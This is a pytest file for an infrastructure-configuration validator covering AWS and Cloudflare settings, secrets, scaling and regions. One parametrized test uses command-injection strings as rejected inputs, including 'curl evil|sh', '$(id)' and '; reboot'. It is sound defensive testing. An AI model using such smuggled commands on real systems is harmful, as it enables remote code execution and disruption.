"""Stack config: presets from the seed, key-by-key overrides, and every validation rule."""

from __future__ import annotations

import json

import pytest

from config import ConfigError, parse_stack_config, seed
from config.models import SUPERUSER_RESERVED_CONNECTIONS
from config.regions import AZ_COUNT
from config.secrets import UNKNOWN_SECRET

SECRET = "sofacover:redisAuthToken"
DATA_SECRETS = (SECRET, "sofacover:dbAppPassword", "sofacover:pgbouncerAdminPassword",
                "sofacover:pgbouncerStatsPassword")


def values(**overrides: object) -> dict[str, str]:
    """A valid prod primary config, as the engine passes it, with overrides."""
    base: dict[str, object] = {
        "aws:region": seed.PRIMARY_REGION,
        "sofacover:environment": "prod",
        "sofacover:role": "primary",
        "sofacover:phase": "1",
        **{key: UNKNOWN_SECRET for key in DATA_SECRETS},
    }
    for key, value in overrides.items():
        full = key.replace("__", ":").replace("_", "")
        base[full] = value
    return {k: json.dumps(v) if isinstance(v, (dict, list)) else v
            for k, v in base.items() if v is not None}


def parse(vals: dict[str, str], stack: str = "prod", secrets: set[str] | None = None):
    return parse_stack_config(stack, vals, {*DATA_SECRETS, "cloudflare:apiToken"}
                              if secrets is None else secrets)


def problems(vals: dict[str, str], **kw) -> list[str]:
    with pytest.raises(ConfigError) as exc:
        parse(vals, **kw)
    return exc.value.problems


def without_data_secrets(vals: dict[str, str]) -> dict[str, str]:
    return {k: v for k, v in vals.items() if k not in DATA_SECRETS}


def secondary(region: str = "us-west-2", primary_region: str = seed.PRIMARY_REGION, **kw):
    return without_data_secrets(values(
        aws__region=region, sofacover__role="secondary",
        sofacover__primary={"stack": "prod", "region": primary_region}, **kw))


# --- committed stack files -----------------------------------------------------------------

def test_every_committed_stack_file_is_valid(project):
    for stack in project.stacks():
        cfg = project.stack_config(stack)
        assert cfg.stack == stack


def test_one_stack_per_secondary_region_of_the_seed(project):
    regions = {project.stack_config(s).region for s in project.stacks()
               if project.stack_config(s).role == "secondary"}
    assert regions == set(seed.SECONDARY_REGIONS)


# --- presets -----------------------------------------------------------------------------

def test_phase1_prod_presets_come_from_the_seed():
    cfg = parse(values())
    assert (cfg.compute.min_size, cfg.compute.max_size) == (seed.ASG_MIN, seed.ASG_MAX)
    hpa = cfg.kubernetes.hpa
    assert (hpa.min_replicas, hpa.max_replicas) == (seed.HPA_MIN, seed.HPA_MAX)
    assert (hpa.cpu_utilization, hpa.memory_utilization) == (seed.HPA_CPU_PERCENT,
                                                              seed.HPA_MEMORY_PERCENT)
    # The seed's scale-up percent and period stand; its 60 s window is dropped for the KPI.
    assert (hpa.scale_up.percent, hpa.scale_up.period_seconds) == (seed.HPA_UP_PERCENT,
                                                                    seed.HPA_UP_PERIOD_S)
    assert hpa.scale_up.stabilization_window_seconds < seed.HPA_UP_WINDOW_S
    assert hpa.scale_down.stabilization_window_seconds == seed.HPA_DOWN_WINDOW_S
    assert hpa.scale_down.percent == seed.HPA_DOWN_PERCENT
    assert cfg.database.backup_retention_days == seed.BACKUP_RETENTION_DAYS
    assert cfg.database.allocated_storage_gb == seed.DB_STORAGE_GB
    assert cfg.database.iops >= seed.DB_IOPS
    assert cfg.database.multi_az
    assert cfg.cache.num_nodes == seed.REDIS_NODES
    assert cfg.pgbouncer.max_server_connections == seed.PGBOUNCER_MAX_SERVER_CONNECTIONS
    assert cfg.pgbouncer.max_client_connections >= seed.ONE_YEAR.peak_concurrent_users
    assert cfg.regions.read_replicas == list(seed.READ_REPLICA_REGIONS)
    assert cfg.network.nat_gateways == "perAz"


def test_phase3_serves_every_seed_region():
    cfg = parse(values(sofacover__phase="3"))
    assert set(cfg.regions.serving) == {seed.PRIMARY_REGION, *seed.SECONDARY_REGIONS}


def test_dev_is_small_with_a_single_nat():
    cfg = parse(values(sofacover__environment="dev", sofacover__role="all-in-one"), "dev")
    assert cfg.network.nat_gateways == "single"
    assert not cfg.database.multi_az
    assert cfg.compute.max_size < seed.ASG_MAX


def test_stack_file_overrides_key_by_key_and_keeps_the_rest():
    cfg = parse(values(sofacover__network={"azCount": 2}, sofacover__compute={"maxSize": 12}))
    assert cfg.network.az_count == 2
    assert cfg.network.cidr == "10.10.0.0/16"  # the region default survives
    assert cfg.compute.max_size == 12
    assert cfg.compute.min_size == seed.ASG_MIN


def test_secondary_carries_only_regional_concerns_and_the_replicas_settings():
    cfg = parse(secondary())
    # its own Redis and PgBouncer (used once it serves): a write pool to the primary and a
    # read pool to its replica
    from config.presets import SECONDARY_WRITE_POOL
    assert cfg.cache == parse(values()).cache
    assert cfg.pgbouncer.max_server_connections == SECONDARY_WRITE_POOL
    assert cfg.pgbouncer.replica_server_connections == seed.PGBOUNCER_MAX_SERVER_CONNECTIONS
    assert parse(values()).pgbouncer.replica_server_connections is None
    assert cfg.database == parse(values()).database  # the replica matches the primary
    assert cfg.network.cidr != parse(values()).network.cidr


# --- validation: each rule broken ----------------------------------------------------------

def test_unknown_top_level_key_is_named_with_the_valid_keys():
    (msg,) = problems(values(sofacover__computer={"minSize": 1}))
    assert msg.startswith("Pulumi.prod.yaml: sofacover:computer is not a known key")
    assert "sofacover:compute" in msg


def test_unknown_nested_key_lists_the_keys_valid_there():
    (msg,) = problems(values(sofacover__network={"nats": 3}))
    assert "sofacover:network.nats is not a known key" in msg
    assert "azCount, cidr, flowLogs, natGateways" in msg


def test_wrong_type_names_the_key_and_value():
    (msg,) = problems(values(sofacover__network={"azCount": "three"}))
    assert "sofacover:network.azCount is 'three'" in msg and "integer" in msg


def test_object_key_given_a_scalar_is_refused():
    (msg,) = problems(values(sofacover__network="big"))
    assert "sofacover:network must be a map" in msg


@pytest.mark.parametrize("concern,low,high", [
    ("compute", "minSize", "maxSize"),
])
def test_max_below_min_is_refused(concern, low, high):
    (msg,) = problems(values(**{f"sofacover__{concern}": {low: 5, high: 3,
                                                          "desiredCapacity": 5}}))
    assert msg == (f"Pulumi.prod.yaml: sofacover:{concern}.{high} is 3 but {low} is 5; "
                   f"{high} must be >= {low}")


def test_hpa_max_below_min_is_refused():
    (msg,) = problems(values(sofacover__kubernetes={"hpa": {"minReplicas": 5, "maxReplicas": 2}}))
    assert "sofacover:kubernetes.hpa.maxReplicas is 2 but minReplicas is 5" in msg


def test_desired_outside_min_max_is_refused():
    (msg,) = problems(values(sofacover__compute={"desiredCapacity": seed.ASG_MAX + 1}))
    assert "sofacover:compute.desiredCapacity" in msg


def test_unknown_region_lists_valid_regions():
    (msg,) = problems(values(aws__region="us-east-9"))
    assert msg.startswith("Pulumi.prod.yaml: aws:region is 'us-east-9'")
    assert "us-west-2" in msg


def test_unknown_region_in_a_list_says_which_element():
    (msg,) = problems(values(sofacover__regions={"serving": ["us-east-1", "mars-1"]}))
    assert "sofacover:regions.serving[1] is 'mars-1'" in msg


@pytest.mark.parametrize("phase", ["0", "4", "two"])
def test_phase_outside_1_to_3_is_refused(phase):
    (msg,) = problems(values(sofacover__phase=phase))
    assert msg == f"Pulumi.prod.yaml: sofacover:phase is {phase!r}; valid phases: 1, 2, 3"


def test_phase_is_required():
    (msg,) = problems(values(sofacover__phase=None))
    assert "sofacover:phase is required" in msg


def test_secondary_in_a_different_region_is_accepted():
    assert parse(secondary()).primary.region == seed.PRIMARY_REGION


def test_secondary_in_the_primary_region_is_refused():
    (msg,) = problems(secondary(region=seed.PRIMARY_REGION))
    assert "sofacover:primary.region is us-east-1, the same as this stack's aws:region" in msg


def test_secondary_without_primary_is_refused():
    vals = secondary()
    del vals["sofacover:primary"]
    (msg,) = problems(vals)
    assert "sofacover:primary is required for a secondary stack" in msg


def test_missing_required_secret_is_refused_with_the_command_to_set_it():
    (msg,) = problems(values(sofacover__redisAuthToken=None))
    assert f"{SECRET} is required for the primary role and missing" in msg
    assert f"pulumi config set --secret {SECRET}" in msg


def test_secret_in_plain_text_is_refused():
    msgs = problems(values(), secrets=set(DATA_SECRETS) - {SECRET})
    assert msgs == [f"Pulumi.prod.yaml: {SECRET} is stored in plain text; it must be a secret: "
                    f"`pulumi config set --secret {SECRET} <value>`"]


def test_edge_needs_the_cloudflare_token():
    edge = {"zoneName": "example.com", "accountId": "0" * 32, "origins": {"us-east-1": "prod"}}
    vals = without_data_secrets(values(aws__region=None, sofacover__role="edge",
                                       sofacover__edge=edge))
    (msg,) = problems(vals, secrets=set())
    assert "cloudflare:apiToken is required for the edge role and missing" in msg
    vals["cloudflare:apiToken"] = UNKNOWN_SECRET
    assert parse(vals).edge.origins == {"us-east-1": "prod"}


def test_prod_with_a_single_nat_is_refused_dev_is_not():
    (msg,) = problems(values(sofacover__network={"natGateways": "single"}))
    assert "sofacover:network.natGateways is 'single' but prod needs 'perAz'" in msg
    dev = values(sofacover__environment="dev", sofacover__role="all-in-one",
                 sofacover__network={"natGateways": "single"})
    assert parse(dev, "dev").network.nat_gateways == "single"


def test_more_azs_than_the_region_has_is_refused():
    region = "us-west-1"
    (msg,) = problems(values(aws__region=region, sofacover__regions={"serving": [region]},
                             sofacover__network={"azCount": AZ_COUNT[region] + 1}))
    assert f"but {region} has {AZ_COUNT[region]} availability zones" in msg


def test_cidr_must_be_private_and_sized():
    (msg,) = problems(values(sofacover__network={"cidr": "10.0.0.0/8"}))
    assert "sofacover:network.cidr is '10.0.0.0/8': must be a /16 to /20" in msg
    (msg,) = problems(values(sofacover__network={"cidr": "8.8.0.0/16"}))
    assert "private" in msg


def test_cache_that_cannot_fail_over_is_refused():
    (msg,) = problems(values(sofacover__cache={"numNodes": 1}))
    assert "sofacover:cache.numNodes is 1 but automaticFailover is on" in msg
    assert parse(values(sofacover__cache={"numNodes": 1, "automaticFailover": False}))


def test_pool_budget_must_fit_the_database_connections():
    limit = 100
    ok = limit - SUPERUSER_RESERVED_CONNECTIONS
    assert parse(values(sofacover__database={"maxConnections": limit},
                        sofacover__pgbouncer={"maxServerConnections": ok}))
    (msg,) = problems(values(sofacover__database={"maxConnections": limit},
                             sofacover__pgbouncer={"maxServerConnections": ok + 1}))
    assert f"is {ok + 1} but database.maxConnections {limit} minus" in msg


def test_role_must_suit_the_environment():
    (msg,) = problems(values(sofacover__role="all-in-one"))
    assert "sofacover:role is 'all-in-one' but environment 'prod' allows only" in msg


def test_replicas_may_not_sit_in_the_primary_region():
    (msg,) = problems(values(sofacover__regions={"readReplicas": [seed.PRIMARY_REGION]}))
    assert "sofacover:regions.readReplicas lists us-east-1" in msg


def test_independent_problems_are_all_reported_at_once():
    msgs = problems(values(sofacover__bogus="1", sofacover__network={"azCount": "x"},
                           sofacover__compute={"instanceType": 5}))
    assert len(msgs) >= 2
    assert all(m.startswith("Pulumi.prod.yaml: ") for m in msgs)


def test_every_hpa_field_is_overridable_per_stack():
    cfg = parse(values(sofacover__kubernetes={"hpa": {
        "scaleUp": {"stabilizationWindowSeconds": seed.HPA_UP_WINDOW_S}}}))
    assert cfg.kubernetes.hpa.scale_up.stabilization_window_seconds == seed.HPA_UP_WINDOW_S
    assert cfg.kubernetes.hpa.scale_up.percent == seed.HPA_UP_PERCENT


def test_warm_pool_with_spot_is_refused():
    (msg,) = problems(values(sofacover__compute={"spotPercent": 50,
                                                 "warmPool": {"enabled": True}}))
    assert "sofacover:compute.warmPool.enabled is true but spotPercent is 50" in msg
    (msg,) = problems(values(sofacover__compute={"instanceTypes": ["m5a.large"],
                                                 "warmPool": {"enabled": True}}))
    assert "instanceTypes is ['m5a.large']" in msg
    assert parse(values(sofacover__compute={"warmPool": {"enabled": True}}))
    # phase 1 warms a pool by default (config/presets.py): spot means turning it off
    assert parse(values(sofacover__compute={"spotPercent": 50, "warmPool": {"enabled": False}}))


def _services(*svcs: dict) -> dict:
    return {"services": [{"image": "x:1", **s} for s in svcs]}


@pytest.mark.parametrize("field,a,b", [
    ("name", {"name": "cart"}, {"name": "cart"}),
    ("nodePort", {"nodePort": 30001}, {"nodePort": 30001}),
    ("path", {"path": "/a*"}, {"path": "/a*"}),
])
def test_services_must_not_share_a_name_node_port_or_path(field, a, b):
    first = {"name": "one", "path": "/one*", "nodePort": 30001, **a}
    second = {"name": "two", "path": "/two*", "nodePort": 30002, **b}
    (msg,) = problems(values(sofacover__kubernetes=_services(first, second)))
    assert f"sofacover:kubernetes.services has two services with {field}" in msg


def test_distinct_services_are_accepted():
    cfg = parse(values(sofacover__kubernetes=_services(
        {"name": "one", "path": "/one*", "nodePort": 30001},
        {"name": "two", "path": "/two*", "nodePort": 30002})))
    # Added to the preset's services, which a stack file keeps unless it removes them.
    assert [s.name for s in cfg.kubernetes.services] == [
        "catalog", "cart", "checkout", "storefront", "one", "two"]


def test_service_node_port_outside_the_node_port_range_is_refused():
    (msg,) = problems(values(sofacover__kubernetes=_services(
        {"name": "one", "path": "/one*", "nodePort": 8080})))
    assert "sofacover:kubernetes.services[4].nodePort is 8080" in msg and "30000" in msg


def test_a_replica_region_may_be_promoted_others_may_not():
    region = seed.READ_REPLICA_REGIONS[0]
    assert parse(secondary(region=region, sofacover__promote="true")).promote is True
    (msg,) = problems(secondary(region="ap-southeast-1", sofacover__promote="true"))
    assert "sofacover:promote is true but this stack holds no read replica" in msg
    (msg,) = problems(values(sofacover__promote="true"))
    assert "sofacover:promote" in msg


def test_backups_are_replicated_to_another_region_in_prod():
    cfg = parse(values())
    assert cfg.database.backup_replication_region in seed.READ_REPLICA_REGIONS
    (msg,) = problems(values(sofacover__database={
        "backupReplicationRegion": seed.PRIMARY_REGION}))
    assert "sofacover:database.backupReplicationRegion is us-east-1, the primary's own" in msg


def _edge(**edge) -> dict:
    # Phase 3's geo load balancing needs the Load Balancing add-on (EdgeConfig).
    return {"zoneName": "sofacoverpro.com", "accountId": "a" * 32,
            "addOns": ["loadBalancing"], **edge}


def edge_stack(phase: str, origins: dict) -> dict[str, str]:
    return without_data_secrets(values(aws__region=None, sofacover__role="edge",
                                       sofacover__phase=phase,
                                       sofacover__edge=_edge(origins=origins),
                                       **{"cloudflare:apiToken": UNKNOWN_SECRET}))


def test_edge_origins_must_cover_every_serving_region():
    three = {r: f"prod-{r}" for r in seed.SECONDARY_REGIONS} | {seed.PRIMARY_REGION: "prod"}
    assert parse(edge_stack("3", three)).edge.origins == three
    assert parse(edge_stack("1", {seed.PRIMARY_REGION: "prod"}))
    (msg,) = problems(edge_stack("3", {seed.PRIMARY_REGION: "prod"}))
    assert "sofacover:edge.origins has no stack for" in msg
    assert all(r in msg for r in seed.SECONDARY_REGIONS)


def test_a_stack_with_its_own_edge_fronts_its_own_alb_and_needs_the_token():
    own = values(sofacover__edge=_edge(), **{"cloudflare:apiToken": UNKNOWN_SECRET})
    assert parse(own).edge.origins == {}
    (msg,) = problems(values(sofacover__edge=_edge(origins={seed.PRIMARY_REGION: "prod"}),
                             **{"cloudflare:apiToken": UNKNOWN_SECRET}))
    assert "sofacover:edge.origins is set but role is 'primary'" in msg
    (msg,) = problems(values(sofacover__edge=_edge()))
    assert "cloudflare:apiToken is required for the primary role and missing" in msg


def test_on_demand_base_above_max_size_is_refused():
    assert parse(values(sofacover__compute={"onDemandBase": seed.ASG_MAX}))
    (msg,) = problems(values(sofacover__compute={"onDemandBase": seed.ASG_MAX + 1}))
    assert f"sofacover:compute.onDemandBase is {seed.ASG_MAX + 1} but maxSize is" in msg


def test_database_engine_version_is_a_major_unless_minor_upgrades_are_off():
    assert parse(values()).database.engine_version == "16"
    (msg,) = problems(values(sofacover__database={"engineVersion": "16.6"}))
    assert "sofacover:database.engineVersion is 16.6, a minor version, but " \
           "autoMinorVersionUpgrade is on" in msg and "'16'" in msg
    pinned = parse(values(sofacover__database={"engineVersion": "16.11",
                                               "autoMinorVersionUpgrade": False}))
    assert pinned.database.engine_version == "16.11"
    (msg,) = problems(values(sofacover__database={"engineVersion": "latest"}))
    assert "sofacover:database.engineVersion" in msg


@pytest.mark.parametrize("key,value", [
    ("appImage", "nginx; curl evil|sh"),
    ("appImage", "nginx:$(id)"),
    ("appImage", "Nginx:latest"),
    ("healthCheckPath", "/healthz; reboot"),
    ("healthCheckPath", "healthz"),
    ("domainName", "sofacoverpro.com`id`"),
    ("certificateArn", "arn:aws:acm:us-east-1:123456789012:certificate/x;id"),
])
def test_compute_strings_that_reach_a_shell_or_aws_are_refused_naming_the_key(key, value):
    (msg,) = problems(values(sofacover__compute={key: value}))
    assert f"sofacover:compute.{key} is {value!r}: must be " in msg


@pytest.mark.parametrize("image", [
    "public.ecr.aws/docker/library/nginx:1.27-alpine",
    "localhost:5000/sofacover/app:v1.2.3",
    "123456789012.dkr.ecr.us-east-1.amazonaws.com/sofacover/app@sha256:" + "0a" * 32,
])
def test_image_references_of_the_oci_grammar_are_accepted(image):
    assert parse(values(sofacover__compute={"appImage": image})).compute.app_image == image


# --- secret formats (checked whenever the value is known) ----------------------------------

def test_a_base64_redis_token_is_refused_by_key_and_rule_without_showing_the_value():
    token = "q2Jk8fH1+/zT0vU9aB3cD4eF5gH6iJ7k=="  # what `openssl rand -base64 24` gives
    (msg,) = problems(values(sofacover__redisAuthToken=token))
    assert msg.startswith("Pulumi.prod.yaml: sofacover:redisAuthToken does not have the "
                          "format the service requires: 16-128 printable characters")
    assert token not in msg and "docs.aws.amazon.com/AmazonElastiCache" in msg


def test_a_hex_redis_token_and_the_plans_placeholder_pass():
    parse(values(sofacover__redisAuthToken="0123456789abcdef" * 4))
    parse(values(sofacover__redisAuthToken=UNKNOWN_SECRET))  # unknown offline: not checked


@pytest.mark.parametrize("password, ok", [
    ("correct-horse-battery-staple-42", True), ("short", False),
    ("has space in it 1234", False), ('quote"in-it-1234567', False),
    ("at@sign-in-it-1234567", False),
])
def test_passwords_are_checked_for_what_pgbouncer_and_libpq_would_need_escaped(password, ok):
    vals = values(sofacover__dbAppPassword=password)
    if ok:
        parse(vals)
    else:
        (msg,) = problems(vals)
        assert "sofacover:dbAppPassword does not have the format" in msg
        assert password not in msg


# --- PgBouncer's shape on the platform (the component's rules, checked at config time) -----

def test_one_pgbouncer_pod_on_kubernetes_is_refused_at_config_time():
    (msg,) = problems(values(sofacover__phase="2", sofacover__pgbouncer={"replicas": 1}))
    assert msg.startswith("Pulumi.prod.yaml: sofacover:pgbouncer.replicas is 1 but "
                          "compute.platform is kubernetes")
    parse(values(sofacover__phase="2", sofacover__pgbouncer={"replicas": 2}))
    parse(values(sofacover__phase="1", sofacover__pgbouncer={"replicas": 1}))  # ec2: sidecars


def test_pgbouncer_pools_must_fit_max_connections_during_a_rolling_update():
    # Two pods sharing the whole usable budget fit; the surge pod's third pool does not.
    usable = parse(values()).database.max_connections - SUPERUSER_RESERVED_CONNECTIONS
    (msg,) = problems(values(sofacover__phase="2", sofacover__pgbouncer={
        "replicas": 2, "maxServerConnections": usable - usable % 2}))
    assert "sofacover:pgbouncer.replicas is 2: during a rolling update 3 pods" in msg


def test_every_sidecar_gets_a_server_connection_on_ec2():
    (msg,) = problems(values(sofacover__pgbouncer={"maxServerConnections": 7},
                             sofacover__compute={"maxSize": 8}))
    assert "sofacover:pgbouncer.maxServerConnections is 7 but every one of up to 8" in msg


def test_dev_plans_on_kubernetes_with_its_preset_pgbouncer(project):
    cfg = project.stack_config("dev", phase=2)
    assert cfg.compute.platform == "kubernetes" and cfg.pgbouncer.replicas >= 2


# --- Cloudflare plan and add-ons (sofacover:edge.plan, addOns) ----------------------------

def _edge_at(phase: str, **edge) -> dict[str, str]:
    origins = {r: f"prod-{r}" for r in seed.SECONDARY_REGIONS} | {seed.PRIMARY_REGION: "prod"}
    return without_data_secrets(values(
        aws__region=None, sofacover__role="edge", sofacover__phase=phase,
        sofacover__edge=_edge(origins=origins, **edge), **{"cloudflare:apiToken": "[secret]"}))


def test_committed_prod_edge_is_on_business_with_load_balancing(project):
    edge = project.stack_config("prod-edge").edge
    assert edge.plan == "business"
    assert {"loadBalancing", "workersPaid"} <= set(edge.add_ons)


def test_plan_bound_presets_follow_the_plan():
    for plan, polish, regional in (("free", False, False), ("pro", True, False),
                                   ("business", True, False), ("enterprise", True, True)):
        edge = parse(_edge_at("3", plan=plan, htmlEdgeTtlSeconds=7200)).edge
        assert (edge.image_optimization, edge.regional_tiered_cache) == (polish, regional), plan
        assert edge.tiered_cache and edge.geo_load_balancing


def test_a_feature_above_the_plan_is_refused_with_the_plan_it_needs():
    (msg,) = problems(_edge_at("3", plan="business", regionalTieredCache=True))
    assert "sofacover:edge.regionalTieredCache is on but plan is 'business'" in msg
    assert "needs the enterprise plan" in msg
    (msg,) = problems(_edge_at("2", plan="free", imageOptimization=True,
                               htmlEdgeTtlSeconds=7200))
    assert "sofacover:edge.imageOptimization is on but plan is 'free'" in msg
    assert "needs the pro plan" in msg
    assert parse(_edge_at("3", plan="enterprise", regionalTieredCache=True))


def test_geo_load_balancing_needs_the_load_balancing_add_on():
    (msg,) = problems(_edge_at("3", plan="business", addOns=[]))
    assert "sofacover:edge.geoLoadBalancing is on but addOns has no 'loadBalancing'" in msg
    assert parse(_edge_at("3", plan="business", addOns=[], geoLoadBalancing=False))


def test_html_edge_ttl_must_reach_the_plans_minimum():
    (msg,) = problems(_edge_at("1", plan="pro", htmlEdgeTtlSeconds=120))
    assert "sofacover:edge.htmlEdgeTtlSeconds is 120 but the pro plan's minimum" in msg
    assert "needs the business plan" in msg
    assert parse(_edge_at("1", plan="pro", htmlEdgeTtlSeconds=3600))


def test_unknown_plan_or_add_on_is_refused():
    msgs = problems(_edge_at("1", plan="premium"))
    assert any("sofacover:edge.plan" in m and "premium" in m for m in msgs)
    msgs = problems(_edge_at("1", plan="business", addOns=["railgun"]))
    assert any("sofacover:edge.addOns" in m and "railgun" in m for m in msgs)


def test_cloudflare_dns_validation_needs_the_cloudflare_token_in_that_stack():
    cf = {"dnsValidation": "cloudflare"}
    assert parse(values(sofacover__compute=cf, **{"cloudflare:apiToken": "[secret]"}))
    (msg,) = problems(values(sofacover__compute=cf))
    assert "cloudflare:apiToken is required for the primary role and missing" in msg
    # A secondary reuses the primary's records (same account): no token, no records.
    assert parse(secondary(sofacover__phase="3")).compute.dns_validation == "external"


def test_manual_dns_validation_means_a_certificate_arn_and_only_then():
    arn = "arn:aws:acm:us-east-1:123456789012:certificate/0123abcd-0123-4567-89ab-0123456789ab"
    assert parse(values(sofacover__compute={"dnsValidation": "manual",
                                            "certificateArn": arn})).compute.certificate_arn
    (msg,) = problems(values(sofacover__compute={"dnsValidation": "manual"}))
    assert "sofacover:compute.certificateArn is not set but dnsValidation is manual" in msg
    (msg,) = problems(values(sofacover__compute={"certificateArn": arn}))
    assert "sofacover:compute.dnsValidation is external but certificateArn is set" in msg


def test_the_validation_zone_must_hold_the_domain():
    token = {"cloudflare:apiToken": "[secret]"}
    assert parse(values(sofacover__compute={
        "dnsValidation": "cloudflare", "domainName": "dev.sofacoverpro.com",
        "dnsZone": "sofacoverpro.com"}, **token))
    (msg,) = problems(values(sofacover__compute={
        "dnsValidation": "cloudflare", "dnsZone": "example.org"}, **token))
    assert "sofacover:compute.dnsZone is example.org but domainName sofacoverpro.com" in msg


def test_prod_and_dev_create_their_validation_records_secondaries_reuse_them(project):
    for stack in project.stacks():
        cfg = project.stack_config(stack)
        if cfg.compute is not None:
            expected = "external" if cfg.role == "secondary" else "cloudflare"
            assert cfg.compute.dns_validation == expected, stack


@pytest.mark.parametrize("arn, ok", [
    ("arn:aws:iam::123456789012:role/ci-deployer", True),
    ("arn:aws:iam::123456789012:user/ops/alice", True),
    ("arn:aws:iam::123456789012:group/admins", False),
    ("arn:aws:sts::123456789012:assumed-role/ci/session", False),
])
def test_eks_admin_principals_must_be_iam_role_or_user_arns(arn, ok):
    vals = values(sofacover__kubernetes={"adminPrincipalArns": [arn]})
    if ok:
        assert parse(vals).kubernetes.admin_principal_arns == [arn]
    else:
        (msg,) = problems(vals)
        assert "sofacover:kubernetes.adminPrincipalArns[0]" in msg


# --- values that must not be taken for something else ------------------------------------

def test_a_boolean_is_not_taken_for_a_number():
    (msg,) = problems(values(sofacover__compute={"minSize": True}))
    assert msg.startswith("Pulumi.prod.yaml: sofacover:compute.minSize is True")


def test_promote_takes_only_true_or_false():
    (msg,) = problems(secondary(sofacover__promote="yes"))
    assert "sofacover:promote is 'yes'; valid: true, false" in msg


@pytest.mark.parametrize("key, value", [
    ("emails", "ops@sofacoverpro.com\n"), ("emails", "ops@"),
    ("httpsEndpoints", "https://"), ("httpsEndpoints", "http://alerts.example.com/hook"),
    ("httpsEndpoints", "https://alerts .example.com/hook"),
])
def test_alert_destinations_must_be_whole_addresses(key, value):
    (msg,) = problems(values(sofacover__alerts={key: [value]}))
    assert f"sofacover:alerts.{key}[0]" in msg


def test_alert_destinations_that_are_whole_addresses_pass():
    cfg = parse(values(sofacover__alerts={"emails": ["ops@sofacoverpro.com"],
                                          "httpsEndpoints": ["https://alerts.example.com/h"]}))
    assert cfg.alerts.emails == ["ops@sofacoverpro.com"]


@pytest.mark.parametrize("service, key", [
    ({"memoryRequest": "1Gi", "memoryLimit": "512Mi"}, "memoryLimit"),
    ({"cpuRequest": "500m", "cpuLimit": "250m"}, "cpuLimit"),
])
def test_a_limit_below_its_request_is_refused(service, key):
    base = {"name": "api", "image": "ghcr.io/sofacover/api:1", "path": "/api*",
            "nodePort": 30090}
    (msg,) = problems(values(sofacover__kubernetes={"services": [{**base, **service}]}))
    assert f"sofacover:kubernetes.services[4].{key} is " in msg and ">= its request" in msg
    fine = {**base, "memoryRequest": "512Mi", "memoryLimit": "1Gi", "cpuRequest": "250m",
            "cpuLimit": "1"}
    parse(values(sofacover__kubernetes={"services": [fine]}))


def test_more_cache_nodes_than_a_replication_group_holds_are_refused():
    (msg,) = problems(values(sofacover__cache={"numNodes": 7}))
    assert "sofacover:cache.numNodes is 7; a replication group without cluster mode" in msg
    parse(values(sofacover__cache={"numNodes": 6}))


@pytest.mark.parametrize("tags, words", [
    ({"aws:team": "x"}, "has key 'aws:team'"),
    ({"Stack": "x"}, "has key 'Stack'"),
    ({"Team": "a*b"}, "has 'Team': 'a*b'"),
    ({f"k{i}": "v" for i in range(47)}, "has 47 tags; AWS allows 50"),
])
def test_tags_aws_would_refuse_are_refused(tags, words):
    (msg,) = problems(values(sofacover__tags=tags))
    assert msg.startswith("Pulumi.prod.yaml: sofacover:tags is ") and words in msg


def test_tags_within_aws_rules_pass():
    tags = {"CostCenter": "ecommerce-42", "team": "platform@sofacover"}
    assert parse(values(sofacover__tags=tags)).tags == tags


def test_a_certificate_from_another_region_is_refused():
    arn = "arn:aws:acm:eu-west-1:123456789012:certificate/0c8a3b7e-1d2f-4a5b-9c6d-7e8f9a0b1c2d"
    (msg,) = problems(values(sofacover__compute={"dnsValidation": "manual",
                                                 "certificateArn": arn}))
    assert "sofacover:compute.certificateArn is a certificate in eu-west-1 but this stack " \
        "is in us-east-1" in msg
    parse(values(sofacover__compute={"dnsValidation": "manual",
                                     "certificateArn": arn.replace("eu-west-1", "us-east-1")}))



def test_a_stack_file_service_changes_removes_or_adds_to_the_presets_by_name():
    cfg = parse(values(sofacover__kubernetes=_services(
        {"name": "cart", "image": "ghcr.io/sofacover/cart:2.1"},
        {"name": "checkout", "remove": True},
        {"name": "search", "image": "ghcr.io/sofacover/search:1", "path": "/api/search*",
         "nodePort": 30084})))
    services = {s.name: s for s in cfg.kubernetes.services}
    assert list(services) == ["catalog", "cart", "storefront", "search"]
    assert services["cart"].image == "ghcr.io/sofacover/cart:2.1"
    assert services["cart"].path == "/api/cart*"  # the rest of the preset's entry is kept


# --- free-form strings against what AWS offers (config/offerings.py) -----------------------

def _not_offered_in(region: str) -> str:
    """An EC2 type AWS describes that `region` does not offer (from the same data)."""
    from planner.mocks import instance_type_offered, instance_types

    return next(t for t in sorted(instance_types()) if not instance_type_offered(region, t))


def test_instance_types_must_exist_and_be_offered_in_the_stacks_region():
    (msg,) = problems(values(sofacover__compute={"instanceType": "m5.huge"}))
    assert msg.startswith("Pulumi.prod.yaml: sofacover:compute.instanceType is 'm5.huge': "
                          "is not an EC2 instance type")
    (msg,) = problems(values(sofacover__compute={"instanceTypes": ["m5.large", "zz.top"]}))
    assert "sofacover:compute.instanceTypes[1] is 'zz.top'" in msg
    absent = _not_offered_in(seed.PRIMARY_REGION)
    (msg,) = problems(values(sofacover__compute={"instanceType": absent}))
    assert f"sofacover:compute.instanceType names {absent}, not offered in " \
        f"{seed.PRIMARY_REGION}" in msg
    assert parse(values(sofacover__compute={"instanceType": "m6i.large"}))


@pytest.mark.parametrize("concern, key, bad, good", [
    ("database", "instanceClass", "db.m6i.huge", "db.r6g.xlarge"),
    ("database", "instanceClass", "db.zz9.large", "db.t4g.medium"),
    ("database", "instanceClass", "m6i.large", "db.m6i.large"),
    ("cache", "nodeType", "cache.zz9.large", "cache.m7g.large"),
    ("cache", "nodeType", "cache.r6g", "cache.r6g.xlarge"),
])
def test_classes_and_node_types_must_be_of_an_offered_family(concern, key, bad, good):
    (msg,) = problems(values(**{f"sofacover__{concern}": {key: bad}}))
    assert msg.startswith(f"Pulumi.prod.yaml: sofacover:{concern}.{key} is {bad!r}: ")
    assert "source: https://docs.aws.amazon.com/" in msg
    assert getattr(getattr(parse(values(**{f"sofacover__{concern}": {key: good}})), concern),
                   "instance_class" if concern == "database" else "node_type") == good


def test_engine_and_cluster_versions_must_be_ones_aws_offers():
    from config.offerings import eks_versions, rds_majors

    (msg,) = problems(values(sofacover__database={"engineVersion": "99"}))
    assert "sofacover:database.engineVersion is '99': is not a PostgreSQL major RDS " \
        "creates; valid majors: " + ", ".join(rds_majors()) in msg
    for major in rds_majors():
        parse(values(sofacover__database={"engineVersion": major}))
    (msg,) = problems(values(sofacover__kubernetes={"version": "1.99"}))
    assert "sofacover:kubernetes.version is '1.99'" in msg and eks_versions()[-1] in msg
    parse(values(sofacover__kubernetes={"version": eks_versions()[-1]}))


def test_gp3_iops_must_fit_the_allocated_storage():
